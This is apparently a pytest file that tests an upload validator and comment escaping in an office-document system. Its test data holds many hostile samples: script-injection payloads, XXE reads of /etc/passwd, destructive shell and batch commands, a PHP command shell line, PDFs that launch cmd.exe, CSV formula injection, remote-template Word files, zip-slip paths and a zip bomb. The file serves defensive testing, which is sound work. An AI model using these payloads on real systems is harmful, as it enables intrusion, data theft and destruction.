"""Forty hostile files are refused or given back as dead bytes; honest ones come back as they went in; comments call who may see them."""

from __future__ import annotations

import base64
import io
import zipfile
from collections.abc import Callable

import docx
import openpyxl
import pytest
import typst

from shidian.errors import DeskError
from shidian.store.desk.notes import NotesShelf
from shidian.tracking.attached import LARGEST, checked
from tests.desk.running import Office

PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def packed(parts: dict[str, bytes], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", how) as z:
        for name, content in parts.items():
            z.writestr(name, content)
    return out.getvalue()


TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
DOCX = {"[Content_Types].xml": TYPES, "word/document.xml": b"<w/>"}


def word() -> bytes:
    out = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("示例")
    document.save(out)
    return out.getvalue()


def sheet() -> bytes:
    out = io.BytesIO()
    book = openpyxl.Workbook()
    assert book.active is not None
    book.active.append(["序号", "任务"])
    book.save(out)
    return out.getvalue()


def twice() -> bytes:
    made = packed({"[Content_Types].xml": b"<x/>", "word/document.xml": b"<x/>", "word/documenu.xml": b"<x/>"})
    return made.replace(b"documenu", b"document")


PACKAGE = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'


def linked(what: str, how: str = 'Id="r1" Type="{0}" Target="{1}" TargetMode="External"', where: str = "http://x.example/t") -> bytes:
    """A document that Word would write with a relationship to elsewhere."""
    kind = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{what}"
    return packed(DOCX | {"word/_rels/settings.xml.rels": PACKAGE % f"<Relationship {how.format(kind, where)}/>".encode()})


HONEST: dict[str, Callable[[], bytes]] = {
    "通知.docx": word,
    "清单.xlsx": sheet,
    "印发.pdf": lambda: bytes(typst.compile(b"= Words")),
    "盖章页.png": lambda: PNG,
    "扫描.jpg": lambda: b"\xff\xd8\xff\xe0" + b"\0" * 40 + b"\xff\xd9",
    "说明.txt": lambda: "第一条 本办法".encode("gb18030"),
    "数据.csv": lambda: "\ufeff序号,任务\n1,示例\n".encode(),
    "链接.docx": lambda: linked("hyperlink"),
    "增减.csv": lambda: "序号,增减,说明\n1,-3.5,- 无\n2,+12%,-\n3,-,+ 新增（两项）\n".encode(),
    "清单.txt": lambda: "- 第一项（商务局）\n- 第二项\n".encode(),
    "公文.ofd": lambda: packed({"OFD.xml": b"<ofd:OFD/>", "Doc_0/Document.xml": b"<x/>"}),
}
HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
    "a page": ("a.html", lambda: b"<html><script>alert(1)</script>"),
    "a page called text": ("a.txt", lambda: b"  <HTML><body onload=alert(1)>"),
    "a page called picture": ("a.png", lambda: b"<html>"),
    "a drawing with script": ("a.svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    "a drawing called text": ("a.txt", lambda: b"<svg onload=alert(1)>"),
    "markup called text": ("a.txt", lambda: b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'),
    "a script": ("a.js", lambda: b"alert(1)"),
    "a shell script called text": ("a.txt", lambda: b"#!/bin/sh\nrm -rf /\n"),
    "a batch file called text": ("a.txt", lambda: b"@echo off\r\ndel *.*\r\n"),
    "php": ("a.txt", lambda: b"<?php system($_GET[0]);"),
    "a program": ("a.exe", lambda: b"MZ\x90\0" + b"\0" * 200),
    "a program called pdf": ("a.pdf", lambda: b"MZ\x90\0" + b"\0" * 200),
    "an elf called docx": ("a.docx", lambda: b"\x7fELF" + b"\0" * 200),
    "pdf with script": ("a.pdf", lambda: PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>")),
    "pdf that launches": ("a.pdf", lambda: PDF.replace(b"/Catalog", b"/Catalog/AA<</O<</S/Launch/F(cmd.exe)>>>>")),
    "pdf that goes out": ("a.pdf", lambda: PDF.replace(b"/Catalog", b"/Catalog/OpenAction <</Type/Action/S/URI/URI(http://x)>>")),
    "pdf with a file inside": ("a.pdf", lambda: PDF.replace(b"/Catalog", b"/Catalog/EF<</F 2 0 R>>/EmbeddedFile")),
    "pdf with a form of its own": ("a.pdf", lambda: PDF.replace(b"/Catalog", b"/Catalog/AcroForm<</XFA[]>>")),
    "pdf cut off": ("a.pdf", lambda: PDF[:30]),
    "pdf that is a page as well": ("a.html", lambda: PDF + b"<script>alert(1)</script>"),
    "word with macros": ("a.docx", lambda: packed(DOCX | {"word/vbaProject.bin": b"x"})),
    "word with macros by type": (
        "a.docx",
        lambda: packed(DOCX | {"[Content_Types].xml": TYPES + b"application/vnd.ms-word.document.macroEnabled"}),
    ),
    "word with an object": ("a.docx", lambda: packed(DOCX | {"word/embeddings/oleObject1.bin": b"x"})),
    "word with activeX": ("a.docx", lambda: packed(DOCX | {"word/activeX/activeX1.xml": b"x"})),
    "word with a template elsewhere": (
        "a.docx",
        lambda: packed(
            DOCX | {"word/_rels/settings.xml.rels": b'<R TargetMode="External" Type="http://x/attachedTemplate" Target="http://x/t.dotm"/>'}
        ),
    ),
    "word with a template elsewhere as Word writes it": ("a.docx", lambda: linked("attachedTemplate")),
    "word with a template elsewhere whose mode is not said": ("a.docx", lambda: linked("attachedTemplate", 'Type="{0}" Target="{1}"')),
    "word with a template on a share": ("a.docx", lambda: linked("attachedTemplate", 'Type="{0}" Target="{1}"', r"\\x\t.dotm")),
    "word with a picture that calls home": ("a.docx", lambda: linked("image")),
    "word with a frame": ("a.docx", lambda: linked("frame", "Type='{0}'\n Target='{1}'\n TargetMode\n=\n'External'")),
    "word with a template in another encoding": (
        "a.docx",
        lambda: packed(
            DOCX
            | {
                "word/_rels/settings.xml.rels": (
                    '<?xml version="1.0" encoding="utf-16"?><R><R TargetMode="External" Type="http://x/attachedTemplate" Target="http://x"/></R>'
                ).encode("utf-16")
            }
        ),
    ),
    "word with entities in its text": (
        "a.docx",
        lambda: packed(
            DOCX | {"word/document.xml": b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]><w>&a;</w>'}
        ),
    ),
    "word with entities in another encoding": (
        "a.docx",
        lambda: packed(DOCX | {"word/document.xml": '<!DOCTYPE w [<!ENTITY a "b">]><w/>'.encode("utf-16")}),
    ),
    "word with relationships that are no xml": ("a.docx", lambda: packed(DOCX | {"_rels/.rels": b"<R"})),
    "pdf with script under another spelling": (
        "a.pdf",
        lambda: PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/J#61vaScript/#4aS(app.alert(1))>>"),
    ),
    "formulas further on": ("a.csv", lambda: '序号,任务\n1,=HYPERLINK("http://x")\n'.encode()),
    "formulas behind a sign": ("a.csv", lambda: b"a,b\n1,\"-2+3+cmd|' /C calc'!A0\"\n"),
    "formulas between semicolons": ("a.csv", lambda: b"a;b\n1;@SUM(1)\n"),
    "formulas in full width": ("a.csv", lambda: "a,b\n1,＝1+1\n".encode()),
    "word with entities": ("a.docx", lambda: packed(DOCX | {"[Content_Types].xml": b'<!DOCTYPE x [<!ENTITY a "b">]>' + TYPES})),
    "excel with links to other books": (
        "a.xlsx",
        lambda: packed({"[Content_Types].xml": TYPES, "xl/workbook.xml": b"<w/>", "xl/externalLinks/externalLink1.xml": b"x"}),
    ),
    "a zip that leaves its folder": ("a.docx", lambda: packed(DOCX | {"../../etc/cron.d/x": b"x"})),
    "a zip with an absolute path": ("a.docx", lambda: packed(DOCX | {"/etc/passwd": b"x"})),
    "a zip with a part twice": ("a.docx", twice),
    "a bomb": ("a.docx", lambda: packed(DOCX | {"word/media/image1.png": b"\0" * 30_000_000})),
    "ten thousand parts": ("a.docx", lambda: packed(DOCX | {f"p{n}": b"" for n in range(6000)}, zipfile.ZIP_STORED)),
    "a plain zip": ("a.zip", lambda: packed({"a.txt": b"x"})),
    "a plain zip called docx": ("a.docx", lambda: packed({"a.txt": b"x"})),
    "an epub called docx": ("a.docx", lambda: packed({"mimetype": b"application/epub+zip"} | DOCX)),
    "a damaged zip": ("a.docx", lambda: packed(DOCX, zipfile.ZIP_STORED).replace(b"<w/>", b"<v/>")),
    "half a zip": ("a.docx", lambda: packed(DOCX)[:60]),
    "formulas": ("a.csv", lambda: b"a,b\n=cmd|' /C calc'!A0,1\n"),
    "bytes": ("a.txt", lambda: bytes(range(256))),
    "nothing": ("a.txt", lambda: b""),
    "too much": ("a.txt", lambda: b"a" * (LARGEST + 1)),
    "word called pdf": ("a.pdf", word),
    "no ending": ("passwd", lambda: b"root:x:0:0"),
    "two endings": ("a.pdf.exe", lambda: PDF),
    "a name that turns around": ("a\u202etxt.exe.pdf", lambda: PDF),
    "a name with a line": ("a\r\nSet-Cookie: x=1.txt", lambda: b"x"),
    "a name of marks": ('"><img src=x>.txt', lambda: b"x"),
    "no name": ("", lambda: b"x"),
}


@pytest.mark.parametrize("name", HONEST)
def test_an_honest_file_is_taken(name: str) -> None:
    assert checked(name, HONEST[name]()).name == name


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_file_is_refused_with_a_reason(what: str) -> None:
    name, content = HOSTILE[what]
    with pytest.raises(DeskError) as caught:
        checked(name, content())
    assert caught.value.message


def test_a_folder_in_a_name_is_left_out() -> None:
    assert checked("..\\..\\windows\\a.txt", b"x").name == "a.txt"
    assert checked("/etc/a.txt", b"x").name == "a.txt"


@pytest.fixture(scope="module")
def item(office: Office) -> int:
    editor = office.join("n-editor", ("suzhou", "editor"))
    office.join("n-signer", ("suzhou", "signer"))
    office.join("n-reader", ("suzhou", "reader"))
    office.join("n-far", ("hefei", "editor"))
    return office.programme.begin(editor, "suzhou", task="t1")


def test_what_goes_in_comes_out_as_a_download_and_hostile_files_leave_no_trace(office: Office, item: int) -> None:
    notes, editor = NotesShelf(office.programme.work), office.programme.people.acting("n-editor")
    with office.signed_in("n-editor") as one:
        where = f"/zh/desk/items/{item}/attach"
        for what in ("a page called text", "pdf with script", "word with macros", "two endings", "too much"):
            bad, bytes_of = HOSTILE[what]
            sent = one.http.post(where, data={"csrf": one.word}, files={"file": (bad, bytes_of())})
            assert sent.status_code == 400, (what, sent.status_code)
        assert notes.attachments(editor, item) == []
        for name, made in HONEST.items():
            content = made()
            for _ in range(2):
                assert one.http.post(where, data={"csrf": one.word}, files={"file": (name, content)}).status_code == 303
            kept = notes.attachments(editor, item)[-1]
            back = one.get(f"/attachments/{kept.id}")
            assert back.content == content
            assert back.headers["content-type"] == "application/octet-stream"
            assert back.headers["content-disposition"].startswith("attachment; ")
            assert back.headers["x-content-type-options"] == "nosniff"
            assert "sandbox" in back.headers["content-security-policy"]
        assert len(notes.attachments(editor, item)) == len(HONEST)
        assert one.http.post(where, files={"file": ("a.txt", b"x")}).status_code == 403
        assert one.http.post(where, data={"csrf": one.word, "region": "hefei"}, files={"file": ("a.txt", b"x")}).status_code == 400
        assert "印发.pdf" in one.get(f"/items/{item}").text
    assert office.programme.work.verify() == []


def test_a_comment_calls_who_may_see_it_and_nobody_else(office: Office, item: int) -> None:
    with office.signed_in("n-editor") as one:
        evil = "请 @n-signer、@n-far 看 <script>alert(1)</script>"
        assert one.post(f"/items/{item}/comment", text=evil).status_code == 303
        assert one.post(f"/items/{item}/comment", text=" ").status_code == 400
        page = one.get(f"/items/{item}").text
        assert "&lt;script&gt;" in page
        assert "<script>alert" not in page
    with office.signed_in("n-signer") as called:
        assert "请 @n-signer" in called.get("").text
    with office.signed_in("n-far") as far, office.signed_in("n-reader") as reader:
        assert "n-signer" not in far.get("").text
        assert "请 @n-signer" not in reader.get("").text
        assert reader.post(f"/items/{item}/comment", text="x").status_code == 403
    assert office.programme.work.verify() == []
